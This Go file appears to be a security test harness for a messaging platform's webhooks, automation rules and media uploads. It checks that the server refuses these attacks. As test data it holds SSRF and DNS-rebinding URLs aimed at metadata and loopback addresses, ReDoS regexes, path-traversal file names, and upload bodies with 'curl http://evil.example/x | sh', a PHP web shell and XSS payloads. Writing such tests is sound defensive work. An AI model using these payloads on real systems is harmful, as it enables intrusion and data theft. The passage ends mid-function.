package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net"
	"net/http"
	"net/textproto"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"time"

	"github.com/wabaplatform/waba/adapters/hookhttp/dnstest"
	"github.com/wabaplatform/waba/adapters/meta/sandbox"
	"github.com/wabaplatform/waba/bench/internal/harness"
)

// --- webhooks (SSRF, rebinding, redirects), automation regexes, media uploads ---------------
//
// These probes play against a second server on a database of its own: its webhook sender
// may use plain http (so http URLs reach the address checks), may reach 127.0.0.3 alone
// (WEBHOOKS_ALLOWED_CIDRS: a loopback listener on 127.0.0.1 stands for an internal
// service), resolves names with a DNS server the probes run (WEBHOOKS_RESOLVER, which they
// change between save and dial), sends to the Meta sandbox, and keeps media files in a
// folder the probes walk afterwards. Its own database keeps the first server's workers,
// which have none of these settings, from taking its deliveries.

// allowedHost is the one loopback address the second server's endpoints may reach.
const allowedHost = "127.0.0.3"

type hmWorld struct {
	srv      *harness.Server
	db       *harness.DB
	c        *harness.Client
	meta     *harness.Meta
	dns      *dnstest.Server
	u        harness.User
	ws       string
	acct     sandbox.Account
	mediaDir string // MEDIA_BUCKET_URL's folder
	mediaTop string // the folder above it, walked for anything written outside
}

// hooksAndMedia starts the second server and runs its probes.
func hooksAndMedia(ctx context.Context, base, bin, tmp string, logf func(string, ...any)) ([]*probe, error) {
	hw := &hmWorld{}
	var err error
	if hw.dns, err = dnstest.Start(nil); err != nil {
		return nil, err
	}
	defer hw.dns.Close()
	if hw.meta, err = harness.StartMeta(); err != nil {
		return nil, err
	}
	defer hw.meta.Close()
	if hw.db, err = harness.NewDB(ctx, base, "security_hm", 4); err != nil {
		return nil, err
	}
	defer hw.db.Drop()
	// Media under tmp/mediatop/a/b/media: a name that climbed two or three levels would land
	// in mediatop, which is walked whole.
	hw.mediaTop = filepath.Join(tmp, "mediatop")
	hw.mediaDir = filepath.Join(hw.mediaTop, "a", "b", "media")
	if err := os.MkdirAll(hw.mediaDir, 0o755); err != nil {
		return nil, err
	}
	hw.srv, err = harness.StartServerOn(ctx, harness.ServerOptions{Bin: bin, DatabaseURL: hw.db.URL, Role: "all", LogDir: tmp,
		Name: "security-hooks-media", GraphURL: hw.meta.URL, LogLevel: "info", Env: map[string]string{
			"WEBHOOKS_ALLOW_HTTP": "true", "WEBHOOKS_ALLOWED_CIDRS": allowedHost + "/32", "WEBHOOKS_RESOLVER": hw.dns.Addr,
			"MEDIA_BUCKET_URL": "file://" + hw.mediaDir,
		}}, hw.meta.ServerAddr)
	if err != nil {
		return nil, err
	}
	defer hw.srv.Kill()
	hw.c = harness.NewClient(hw.srv.URL, 4)
	if hw.u, err = hw.c.SignupLogin(ctx, fmt.Sprintf("hm-%d@example.com", time.Now().UnixNano())); err != nil {
		return nil, err
	}
	if hw.ws, err = hw.c.CreateWorkspace(ctx, hw.u, "Hooks and media", ""); err != nil {
		return nil, err
	}
	if hw.acct, err = hw.meta.CreateAccount(sandbox.AccountOptions{}); err != nil {
		return nil, err
	}
	if _, err = hw.c.Connect(ctx, hw.u, hw.ws, hw.acct.AccessToken, hw.acct.WABAID, hw.acct.PhoneNumberID); err != nil {
		return nil, fmt.Errorf("connect a sandbox number: %w", err)
	}
	logf("probing webhooks, automation and media on %s", hw.srv.URL)
	var out []*probe
	start := time.Now()
	internal, err := newCounter("127.0.0.1:0") // every "internal" target's port
	if err != nil {
		return nil, err
	}
	defer internal.Close()
	out = append(out, hw.ssrfSave(ctx, internal))
	out = append(out, hw.rebinding(ctx))
	out = append(out, hw.redirects(ctx, internal))
	// Retries of the refused deliveries came meanwhile (after about 5 s): still nothing.
	late := &probe{name: "webhooks: connections to the internal listeners over the whole run"}
	late.try(internal.n.Load() == 0, fmt.Sprintf("%d connections to %s", internal.n.Load(), internal.addr))
	out = append(out, late)
	logf("webhook probes took %v", time.Since(start).Round(time.Millisecond))
	out = append(out, hw.regexes(ctx)...)
	out = append(out, hw.mediaSpoofing(ctx), hw.mediaNames(ctx), hw.mediaOversize(ctx))
	five, err := countServerErrors(hw.srv)
	fives := &probe{name: "5xx answers logged by the webhooks/automation/media server", tried: 1}
	switch {
	case err != nil:
		fives.accepted, fives.examples = 1, []string{"could not read the server log: " + err.Error()}
	case five > 0:
		fives.accepted, fives.examples = five, []string{"see " + hw.srv.Log}
	}
	out = append(out, fives)
	return out, nil
}

// counter is a TCP listener that counts the connections it accepts (and closes them): an
// internal service that must never hear from the webhook sender.
type counter struct {
	ln   net.Listener
	addr string
	port string
	n    atomic.Int64
}

func newCounter(addr string) (*counter, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	c := &counter{ln: ln, addr: ln.Addr().String()}
	_, c.port, _ = net.SplitHostPort(c.addr)
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			c.n.Add(1)
			conn.Close()
		}
	}()
	return c, nil
}

func (c *counter) Close() { c.ln.Close() }

func (hw *hmWorld) path(p string) string { return "/v1/workspaces/" + hw.ws + p }

// refusedURLs are the URLs no endpoint may have (port: the internal listener's).
func (hw *hmWorld) refusedURLs(port string) []string {
	hw.dns.Set("ten.rebind.test", "10.0.0.1")
	hw.dns.Set("metadata.rebind.test", "169.254.169.254")
	hw.dns.Set("loopback.rebind.test", "127.0.0.1")
	return []string{
		"http://127.0.0.1:" + port + "/", "http://localhost:" + port + "/", "http://169.254.169.254/latest/meta-data/",
		"http://[::1]:" + port + "/", "http://[fe80::1]/", "http://[fe80::1%25lo]/", "http://10.0.0.1/", "http://192.168.1.1/",
		"http://172.16.0.1/", "http://100.64.0.1/", "http://[fc00::1]/", "http://[fd00:ec2::254]/", "http://0.0.0.0/",
		"http://0.0.0.0:" + port + "/", "http://[::]:" + port + "/", "http://[::ffff:127.0.0.1]:" + port + "/",
		"http://[::ffff:a9fe:a9fe]/", "http://[::ffff:7f00:1]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:7f00:1::]/",
		"http://127.1/", "http://127.0.1:" + port + "/", "http://2130706433/", "http://0x7f000001/", "http://0x7f.0.0.1/",
		"http://0177.0.0.1/", "http://017700000001/", "http://127.0.0.1.:" + port + "/", "http://224.0.0.1/",
		"http://ten.rebind.test/", "http://metadata.rebind.test/latest/meta-data/", "http://loopback.rebind.test:" + port + "/",
		"http://unknown.rebind.test/", // resolves to nothing
		"ftp://" + allowedHost + "/", "file:///etc/passwd", "gopher://" + allowedHost + ":70/_GET", "dict://" + allowedHost + ":11211/",
		"javascript:alert(1)", "//" + allowedHost + "/", allowedHost + ":80",
		"http://user:pass@" + allowedHost + "/", "http://user@" + allowedHost + "/", "http://" + allowedHost + "@127.0.0.1:" + port + "/",
		"http://" + allowedHost + "/#frag", "http://" + allowedHost + ":0/", "http://" + allowedHost + ":99999/",
		"http://" + allowedHost + "\\@127.0.0.1:" + port + "/", "http://127.0.0.1:" + port + "\\@" + allowedHost + "/",
		"http:// " + allowedHost + "/", "http://" + allowedHost + "%00.example.com/", "http://" + strings.Repeat("a", 2100) + ".com/",
	}
}

// refused422 is whether an answer is the contract's refusal: 422 naming the url field.
func refused422(r harness.Response, err error) bool {
	return err == nil && r.Status == http.StatusUnprocessableEntity && bytes.Contains(r.Body, []byte(`"url"`))
}

// ssrfSave: every refused URL, at creation and as a PATCH of an allowed endpoint, is 422.
func (hw *hmWorld) ssrfSave(ctx context.Context, internal *counter) *probe {
	p := &probe{name: "webhooks: internal, metadata, encoded and non-http URLs at create and PATCH -> 422"}
	recv, err := harness.StartHookReceiver(allowedHost + ":0")
	if err != nil {
		p.try(false, "receiver on "+allowedHost+": "+err.Error())
		return p
	}
	defer recv.Close()
	// The allowed control: the policy lets 127.0.0.3 through, so the refusals are the checks'.
	id, _, err := hw.c.CreateEndpoint(ctx, hw.u, hw.ws, recv.URL, "*")
	if err != nil {
		p.try(false, "the allowed endpoint was refused: "+err.Error())
		return p
	}
	for _, u := range hw.refusedURLs(internal.port) {
		r, err := hw.c.Do(ctx, "POST", hw.path("/webhook-endpoints"), hw.u.Token, map[string]any{"url": u, "events": []string{"*"}})
		p.try(refused422(r, err), fmt.Sprintf("create %.80s -> %d %v", u, r.Status, err))
		r, err = hw.c.Do(ctx, "PATCH", hw.path("/webhook-endpoints/"+id), hw.u.Token, map[string]any{"url": u})
		p.try(refused422(r, err), fmt.Sprintf("PATCH %.80s -> %d %v", u, r.Status, err))
	}
	m, err := hw.c.Must(ctx, 200, "GET", hw.path("/webhook-endpoints/"+id), hw.u.Token, nil)
	p.try(err == nil && m["url"] == recv.URL, fmt.Sprintf("the allowed endpoint's url afterwards: %v %v", m["url"], err))
	r, err := hw.c.Do(ctx, "GET", hw.path("/webhook-endpoints"), hw.u.Token, nil)
	n := -1
	if err == nil {
		data, _ := r.JSON()["data"].([]any)
		n = len(data)
	}
	p.try(n == 1, fmt.Sprintf("%d endpoints exist after the refusals (want 1)", n))
	_, _ = hw.c.Do(ctx, "DELETE", hw.path("/webhook-endpoints/"+id), hw.u.Token, nil)
	return p
}

// delivery is a webhook delivery as the API lists it.
type delivery struct {
	ID             string `json:"id"`
	EventType      string `json:"event_type"`
	Status         string `json:"status"`
	Attempts       int    `json:"attempts"`
	ResponseStatus *int   `json:"response_status"`
	Error          string `json:"error"`
}

// waitDelivery waits until the endpoint has a delivery of eventType that has been attempted
// (more than after attempts before) and returns it.
func (hw *hmWorld) waitDelivery(ctx context.Context, endpoint, eventType string, skip map[string]bool) (delivery, error) {
	deadline := time.Now().Add(20 * time.Second)
	for {
		r, err := hw.c.Do(ctx, "GET", hw.path("/webhook-endpoints/"+endpoint+"/deliveries"), hw.u.Token, nil)
		if err != nil {
			return delivery{}, err
		}
		var list struct {
			Data []delivery `json:"data"`
		}
		if err := json.Unmarshal(r.Body, &list); err != nil || r.Status != 200 {
			return delivery{}, fmt.Errorf("deliveries: %d %s", r.Status, trunc(string(r.Body), 200))
		}
		for _, d := range list.Data {
			if d.EventType == eventType && !skip[d.ID] && d.Attempts > 0 && d.Status != "pending" {
				return d, nil
			}
		}
		if time.Now().After(deadline) {
			return delivery{}, fmt.Errorf("no attempted %s delivery after 20 s: %s", eventType, trunc(string(r.Body), 300))
		}
		select {
		case <-ctx.Done():
			return delivery{}, ctx.Err()
		case <-time.After(100 * time.Millisecond):
		}
	}
}

func (hw *hmWorld) ping(ctx context.Context, endpoint string) error {
	_, err := hw.c.Must(ctx, 202, "POST", hw.path("/webhook-endpoints/"+endpoint+"/test"), hw.u.Token, nil)
	return err
}

// inbound makes the sandbox deliver a customer's text to the connected number: a
// message.received event for the endpoints.
func (hw *hmWorld) inbound(text string) error {
	_, err := hw.meta.InjectInbound(sandbox.Inbound{PhoneNumberID: hw.acct.PhoneNumberID, From: "14155550199", Type: "text", Text: text})
	return err
}

// rebinding: a name that resolved to the allowed address when the endpoint was saved now
// resolves to an internal one; a ping and a real event must not reach it.
func (hw *hmWorld) rebinding(ctx context.Context) *probe {
	p := &probe{name: "webhooks: DNS rebinding between save and dial (ping and real events)"}
	for i, target := range []string{"127.0.0.1", "10.0.0.1", "169.254.169.254", "127.0.0.1 after a delivery to the allowed address"} {
		addr, warm, _ := strings.Cut(target, " ")
		// The internal listener and the allowed receiver share a port, so only the address the
		// name resolves to tells them apart.
		// (10.x and 169.254.x cannot be listened on here: their port is the same listener's.)
		inner, err := newCounter("127.0.0.1:0")
		if err != nil {
			p.try(false, err.Error())
			continue
		}
		recv, err := startNoKeepAlive(allowedHost + ":" + inner.port)
		if err != nil {
			inner.Close()
			p.try(false, "receiver on "+allowedHost+": "+err.Error())
			continue
		}
		name := fmt.Sprintf("hook%d.rebind.test", i)
		hw.dns.Set(name, allowedHost)
		u := "http://" + name + ":" + inner.port + "/hooks"
		id, _, err := hw.c.CreateEndpoint(ctx, hw.u, hw.ws, u, "message.received")
		p.try(err == nil, fmt.Sprintf("%s resolving to %s at save: %v", u, allowedHost, err))
		if err != nil {
			recv.Close()
			inner.Close()
			continue
		}
		seen := map[string]bool{}
		if warm != "" {
			// A delivery to the allowed address first (the receiver closes every connection,
			// so nothing pooled can carry the next one).
			if err := hw.ping(ctx, id); err != nil {
				p.try(false, err.Error())
			} else if d, err := hw.waitDelivery(ctx, id, "ping", seen); err != nil || d.Status != "succeeded" {
				p.try(false, fmt.Sprintf("the control ping to the allowed address: %+v %v", d, err))
			} else {
				seen[d.ID] = true
			}
		}
		hw.dns.Set(name, addr)
		if err := hw.ping(ctx, id); err != nil {
			p.try(false, err.Error())
		} else {
			d, err := hw.waitDelivery(ctx, id, "ping", seen)
			p.try(err == nil && d.Status != "succeeded" && d.ResponseStatus == nil && d.Error != "",
				fmt.Sprintf("ping after %s rebound to %s: %+v %v", name, addr, d, err))
		}
		if err := hw.inbound(fmt.Sprintf("rebinding probe %d", i)); err != nil {
			p.try(false, err.Error())
		} else {
			d, err := hw.waitDelivery(ctx, id, "message.received", seen)
			p.try(err == nil && d.Status != "succeeded" && d.ResponseStatus == nil && d.Error != "",
				fmt.Sprintf("message.received after %s rebound to %s: %+v %v", name, addr, d, err))
		}
		p.try(inner.n.Load() == 0, fmt.Sprintf("%d connections reached %s after %s was rebound", inner.n.Load(), inner.addr, name))
		p.try(recv.n.Load() == map[bool]int64{true: 1, false: 0}[warm != ""],
			fmt.Sprintf("the allowed receiver got %d requests", recv.n.Load()))
		// Disabled, so its retries stop; its listeners go with it.
		_, _ = hw.c.Do(ctx, "PATCH", hw.path("/webhook-endpoints/"+id), hw.u.Token, map[string]any{"enabled": false})
		recv.Close()
		inner.Close()
	}
	return p
}

// plainReceiver answers 200 and closes every connection.
type plainReceiver struct {
	srv *http.Server
	n   atomic.Int64
}

func startNoKeepAlive(addr string) (*plainReceiver, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	r := &plainReceiver{}
	r.srv = &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.n.Add(1)
		_, _ = io.Copy(io.Discard, req.Body)
	})}
	r.srv.SetKeepAlivesEnabled(false)
	go func() { _ = r.srv.Serve(ln) }()
	return r, nil
}

func (r *plainReceiver) Close() { _ = r.srv.Close() }

// redirects: an allowed receiver answers each 3xx pointing at the internal listener; the
// delivery fails with the 3xx and the listener hears nothing.
func (hw *hmWorld) redirects(ctx context.Context, internal *counter) *probe {
	p := &probe{name: "webhooks: 301/302/303/307/308 to an internal address not followed"}
	ln, err := net.Listen("tcp", allowedHost+":0")
	if err != nil {
		p.try(false, err.Error())
		return p
	}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		var code int
		_, _ = fmt.Sscanf(strings.TrimPrefix(req.URL.Path, "/r"), "%d", &code)
		w.Header().Set("Location", "http://"+internal.addr+"/followed")
		w.WriteHeader(code)
	})}
	go func() { _ = srv.Serve(ln) }()
	defer srv.Close()
	before := internal.n.Load()
	for _, code := range []int{301, 302, 303, 307, 308} {
		id, _, err := hw.c.CreateEndpoint(ctx, hw.u, hw.ws, fmt.Sprintf("http://%s/r%d", ln.Addr(), code), "ping")
		if err != nil {
			p.try(false, err.Error())
			continue
		}
		if err := hw.ping(ctx, id); err != nil {
			p.try(false, err.Error())
			continue
		}
		d, err := hw.waitDelivery(ctx, id, "ping", nil)
		p.try(err == nil && d.Status != "succeeded" && d.ResponseStatus != nil && *d.ResponseStatus == code,
			fmt.Sprintf("%d: %+v %v", code, d, err))
		_, _ = hw.c.Do(ctx, "PATCH", hw.path("/webhook-endpoints/"+id), hw.u.Token, map[string]any{"enabled": false})
	}
	p.try(internal.n.Load() == before, fmt.Sprintf("%d connections followed a redirect to %s", internal.n.Load()-before, internal.addr))
	return p
}

// --- automation regexes ---------------------------------------------------------------------

// regexes: what RE2 refuses is 422; what it takes must leave the dry run on a hostile text
// of the maximum length fast (the same matching runs in the worker on every inbound text).
func (hw *hmWorld) regexes(ctx context.Context) []*probe {
	refused := &probe{name: "automation: regexes RE2 cannot run or past 512 characters -> 422"}
	harmless := &probe{name: "automation: catastrophic regexes refused, or a 4,096-character dry run answers within 1 s"}
	rule := func(keywords ...string) map[string]any {
		return map[string]any{"name": "regex probe", "match": "regex", "keywords": keywords,
			"actions": []any{map[string]any{"type": "add_tag", "tag": "probe"}}, "priority": 0, "enabled": true}
	}
	for _, expr := range []string{strings.Repeat("a", 513), "(" + strings.Repeat("a", 511) + ")", `(a)\1`, `(a+)\1$`, `a(?=b)`, `a(?!b)`,
		`(?<=a)b`, `(?<!a)b`, `(?>a+)`, `a++`, `a{1001}`, `(?P<x>a)(?P=x)`, `\`, `(`} {
		r, err := hw.c.Do(ctx, "POST", hw.path("/automation/rules"), hw.u.Token, rule(expr))
		refused.try(err == nil && r.Status == http.StatusUnprocessableEntity, fmt.Sprintf("%.40q -> %d %v", expr, r.Status, err))
		hw.dropRule(ctx, r)
	}
	texts := []string{strings.Repeat("a", 4095) + "!", strings.Repeat("ab", 2048), strings.Repeat("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n", 128),
		strings.Repeat("é", 2048)}
	bigProgram := func(unit string) string {
		return strings.Repeat(unit, 512/len(unit)-1) + "$"
	}
	hostile := []string{`(a+)+$`, `(a|aa)+$`, `(a|a?)+$`, `(.*a){30}`, `(.*a){1000}`, `^(([a-z])+.)+[A-Z]([a-z])+$`, `(a*)*b`, `(\w+\s?)+$`,
		`a{1000}{1000}`, `(a{1000}){1000}`, `((a{100}){100}){100}`, `(?:a?){1000}a{1000}`, `(?:x*){1000}`,
		bigProgram(`(?:.?){1000}`), bigProgram(`(?:a?){1000}`), bigProgram(`(?:\pL*){1000}`), bigProgram(`(?:.*a){1000}`),
		bigProgram(`(?:[\s\S]?){999}`), bigProgram(`(?i:[a-z]?){999}`)}
	// One rule of 50 keywords, each of the largest program a short regex makes.
	var fifty []string
	for range 50 {
		fifty = append(fifty, `(?:a?){1000}a{1000}`)
	}
	cases := append([][]string{}, [][]string{fifty}...)
	for _, e := range hostile {
		cases = append(cases, []string{e})
	}
	for _, kws := range cases {
		label := fmt.Sprintf("%.40q", kws[0])
		if len(kws) > 1 {
			label = fmt.Sprintf("%d keywords of %q", len(kws), kws[0])
		}
		start := time.Now()
		r, err := hw.c.Do(ctx, "POST", hw.path("/automation/rules"), hw.u.Token, rule(kws...))
		took := time.Since(start)
		switch {
		case err != nil || r.Status >= 500 || took > time.Second:
			harmless.try(false, fmt.Sprintf("create %s -> %d in %v %v", label, r.Status, took.Round(time.Millisecond), err))
			continue
		case r.Status != http.StatusCreated:
			harmless.try(r.Status == http.StatusUnprocessableEntity, fmt.Sprintf("create %s -> %d", label, r.Status))
			continue
		}
		for _, text := range texts {
			start := time.Now()
			tr, err := hw.c.Do(ctx, "POST", hw.path("/automation/rules/test"), hw.u.Token, map[string]string{"text": text})
			took := time.Since(start)
			harmless.try(err == nil && tr.Status == 200 && took < time.Second,
				fmt.Sprintf("dry run of %s on %.6q x%d -> %d in %v %v", label, text, len(text), tr.Status, took.Round(time.Millisecond), err))
		}
		hw.dropRule(ctx, r)
	}
	// And the dry run's own text: 1 MB is refused, or answered as fast.
	for _, n := range []int{4097, 1_000_000} {
		start := time.Now()
		tr, err := hw.c.Do(ctx, "POST", hw.path("/automation/rules/test"), hw.u.Token, map[string]string{"text": strings.Repeat("a", n)})
		took := time.Since(start)
		ok := err == nil && (tr.Status >= 400 && tr.Status < 500 || tr.Status == 200 && took < time.Second)
		harmless.try(ok, fmt.Sprintf("dry run of %d characters -> %d in %v %v", n, tr.Status, took.Round(time.Millisecond), err))
	}
	return []*probe{refused, harmless}
}

// dropRule deletes a rule a probe created (so the next dry run tries only its own).
func (hw *hmWorld) dropRule(ctx context.Context, r harness.Response) {
	if r.Status != http.StatusCreated {
		return
	}
	if id, _ := r.JSON()["id"].(string); id != "" {
		_, _ = hw.c.Do(ctx, "DELETE", hw.path("/automation/rules/"+id), hw.u.Token, nil)
	}
}

// --- media ----------------------------------------------------------------------------------

var (
	jpegHead = []byte("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
	jpegFile = append(append([]byte{}, jpegHead...), bytes.Repeat([]byte{0x42}, 2000)...)
)

// upload posts a multipart body (phone_number_id, then the file part with the name and the
// declared type given) streamed from file without a Content-Length. sent counts what the
// server read of it.
func (hw *hmWorld) upload(ctx context.Context, filename, contentType string, file io.Reader, sent *atomic.Int64) (harness.Response, error) {
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	go func() {
		err := func() error {
			if err := mw.WriteField("phone_number_id", hw.acct.PhoneNumberID); err != nil {
				return err
			}
			h := textproto.MIMEHeader{}
			h.Set("Content-Disposition", `form-data; name="file"; filename="`+strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(filename)+`"`)
			h.Set("Content-Type", contentType)
			part, err := mw.CreatePart(h)
			if err != nil {
				return err
			}
			if _, err := io.Copy(part, file); err != nil {
				return err
			}
			return mw.Close()
		}()
		pw.CloseWithError(err)
	}()
	var body io.Reader = pr
	if sent != nil {
		body = &countReader{r: pr, n: sent}
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, hw.c.Base+hw.path("/media"), body)
	if err != nil {
		return harness.Response{}, err
	}
	req.ContentLength = -1
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+hw.u.Token)
	res, err := hw.c.HC.Do(req)
	pr.CloseWithError(errors.New("the probe is done with the body"))
	if err != nil {
		return harness.Response{}, err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	return harness.Response{Status: res.StatusCode, Header: res.Header, Body: b}, err
}

type countReader struct {
	r io.Reader
	n *atomic.Int64
}

func (c *countReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// content fetches a stored file's bytes and checks how they are served: never as
// something a browser would run.
func (hw *hmWorld) served(ctx context.Context, id, wantType string) string {
	r, err := hw.c.Raw(ctx, "GET", hw.path("/media/"+id+"/content"), nil, "Authorization", "Bearer "+hw.u.Token)
	if err != nil {
		return err.Error()
	}
	ct := r.Header.Get("Content-Type")
	var why []string
	if r.Status != 200 {
		why = append(why, fmt.Sprintf("status %d", r.Status))
	}
	if !strings.HasPrefix(ct, wantType) || strings.Contains(ct, "html") || strings.Contains(ct, "svg") || strings.Contains(ct, "script") {
		why = append(why, "Content-Type "+ct)
	}
	if r.Header.Get("X-Content-Type-Options") != "nosniff" {
		why = append(why, "no nosniff")
	}
	if csp := r.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") {
		why = append(why, "CSP "+csp)
	}
	if !strings.HasPrefix(wantType, "image/") && !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") {
		why = append(why, "Content-Disposition "+r.Header.Get("Content-Disposition"))
	}
	return strings.Join(why, ", ")
}

// mediaSpoofing: what a browser or a shell would run is refused whatever its name and
// declared type; what the sniffer takes (a JPEG with a script after its magic) is served
// as the image it claims, never as markup.
func (hw *hmWorld) mediaSpoofing(ctx context.Context) *probe {
	p := &probe{name: "media: scripts, HTML, SVG, PHP, executables named as images or PDFs refused; polyglots served inert"}
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0}, 200)...)
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), bytes.Repeat([]byte{0}, 200)...)
	refused := []struct{ name, ctype, body string }{
		{"photo.jpg", "image/jpeg", "#!/bin/sh\ncurl http://evil.example/x | sh\n"},
		{"photo.jpg", "image/jpeg", "curl http://evil.example/x | sh\n"},
		{"a.png", "image/png", "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"},
		{"a.png", "image/png", "  \n<html><script>alert(1)</script>"},
		{"a.jpg", "image/jpeg", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
		{"a.jpg", "image/jpeg", `<svg onload="alert(1)"/>`},
		{"x.pdf", "application/pdf", "<?php system($_GET['c']); ?>"},
		{"doc.pdf", "application/pdf", string(elf)},
		{"doc.pdf", "application/pdf", string(pe)},
		{"x.txt", "text/plain", "<script>alert(1)</script>"},
		{"x.txt", "text/plain", "#!/usr/bin/env python\nimport os\n"},
		{"run.sh", "text/plain", "echo hello\n"},
		{"page.html", "text/plain", "hello\n"},
		{"a.gif", "image/gif", "GIF89a\x01\x00\x01\x00<script>alert(1)</script>"},
		{"a.jpg", "image/jpeg", "\xEF\xBB\xBF<html><script>alert(1)</script>"},
	}
	for _, c := range refused {
		r, err := hw.upload(ctx, c.name, c.ctype, strings.NewReader(c.body), nil)
		p.try(err == nil && r.Status >= 400 && r.Status < 500, fmt.Sprintf("%s as %s, %.20q -> %d %v", c.name, c.ctype, c.body, r.Status, err))
	}
	// Polyglots: the sniffer judges by the magic, so these are stored; what matters is that
	// they are never served as anything a browser runs.
	polyglots := []struct{ name, ctype, want string }{
		{"poly.jpg", "image/jpeg", "image/jpeg"},
		{"poly.html", "text/html", "image/jpeg"},
		{"poly.svg", "image/svg+xml", "image/jpeg"},
	}
	body := append(append([]byte{}, jpegHead...), []byte("<html><script>alert(document.domain)</script></html>")...)
	for _, c := range polyglots {
		r, err := hw.upload(ctx, c.name, c.ctype, bytes.NewReader(body), nil)
		if err != nil || r.Status >= 500 {
			p.try(false, fmt.Sprintf("polyglot %s -> %d %v", c.name, r.Status, err))
			continue
		}
		if r.Status != http.StatusCreated {
			p.try(r.Status >= 400 && r.Status < 500, fmt.Sprintf("polyglot %s -> %d", c.name, r.Status))
			continue
		}
		m := r.JSON()
		id, _ := m["id"].(string)
		p.try(m["mime_type"] == c.want, fmt.Sprintf("polyglot %s stored as %v", c.name, m["mime_type"]))
		why := hw.served(ctx, id, c.want)
		p.try(why == "", fmt.Sprintf("polyglot %s served with %s", c.name, why))
	}
	pdfHTML := "%PDF-1.4\n<html><script>alert(1)</script></html>\n"
	if r, err := hw.upload(ctx, "poly.html", "text/html", strings.NewReader(pdfHTML), nil); err == nil && r.Status == http.StatusCreated {
		why := hw.served(ctx, r.JSON()["id"].(string), "application/pdf")
		p.try(why == "", "PDF/HTML polyglot served with "+why)
	} else {
		p.try(err == nil && r.Status < 500, fmt.Sprintf("PDF/HTML polyglot -> %d %v", r.Status, err))
	}
	return p
}

var uuidRE = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$`)

// mediaNames: names that climb, are absolute, encoded or carry NULs are refused or kept
// only as a display name: the stored objects are all <workspace>/<uuid>.
func (hw *hmWorld) mediaNames(ctx context.Context) *probe {
	p := &probe{name: "media: path traversal in file names (../, ..\\, absolute, encoded, NUL) impossible"}
	names := []string{"../../etc/passwd", "../../../../../../tmp/pwned.jpg", `..\..\windows\system32\a.jpg`, "/abs/path/a.jpg",
		`C:\Windows\a.jpg`, "%2e%2e%2f%2e%2e%2fpwned.jpg", "..%2f..%2fpwned.jpg", "%252e%252e%252fa.jpg", "a.jpg\x00../../x",
		"\x00", "..", ".", "./", "....//....//a.jpg", "a/../../b.jpg", "\u2025/\u2025/a.jpg", "..\u2215..\u2215a.jpg",
		strings.Repeat("../", 300) + "a.jpg", "a\r\nContent-Type: text/html\r\n\r\n<script>.jpg", `"; filename="../../x.jpg`, ""}
	for _, name := range names {
		r, err := hw.upload(ctx, name, "image/jpeg", bytes.NewReader(jpegFile), nil)
		switch {
		case err != nil || r.Status >= 500:
			p.try(false, fmt.Sprintf("%.40q -> %d %v", name, r.Status, err))
		case r.Status == http.StatusCreated:
			fn, _ := r.JSON()["filename"].(string)
			p.try(!strings.ContainsAny(fn, "/\\\x00") && fn != ".." && !strings.HasPrefix(fn, "../"),
				fmt.Sprintf("%.40q kept as filename %q", name, fn))
		default:
			p.try(r.Status >= 400, fmt.Sprintf("%.40q -> %d", name, r.Status))
		}
	}
	// Nothing outside the media folder, and every object inside is <workspace>/<uuid>.
	stored := 0
	err := filepath.WalkDir(hw.mediaTop, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, err := filepath.Rel(hw.mediaDir, path)
		if err != nil || strings.HasPrefix(rel, "..") {
			p.try(false, "a file outside the media folder: "+path)
			return nil
		}
		parts := strings.Split(rel, string(filepath.Separator))
		ok := len(parts) == 2 && parts[0] == hw.ws && uuidRE.MatchString(parts[1])
		p.try(ok, "a media object not named <workspace>/<uuid>: "+rel)
		stored++
		return nil
	})
	p.try(err == nil && stored > 0, fmt.Sprintf("walked %s: %d objects, %v", hw.mediaTop, stored, err))
	for _, outside := range []string{"/tmp/pwned.jpg", filepath.Join(hw.mediaTop, "pwned.jpg"), filepath.Join(hw.mediaTop, "a", "pwned.jpg")} {
		_, err := os.Stat(outside)
		p.try(errors.Is(err, fs.ErrNotExist), outside+" exists")
	}
	return p
}

// mediaOversize: an image past 5 MB, streamed without a Content-Length, is refused with
// 413 long before its end.
func (hw *hmWorld) mediaOversize(ctx context.Context) *probe {
	p := &probe{name: "media: an image past 5 MB streamed chunked -> 413 early"}
	for _, total := range []int64{5<<20 + 1, 1 << 30} {
		var sent atomic.Int64
		body := io.MultiReader(bytes.NewReader(jpegHead), io.LimitReader(zeroReader{}, total-int64(len(jpegHead))))
		start := time.Now()
		r, err := hw.upload(ctx, "big.jpg", "image/jpeg", body, &sent)
		// The socket buffers on loopback hold a few MB of what the server never read.
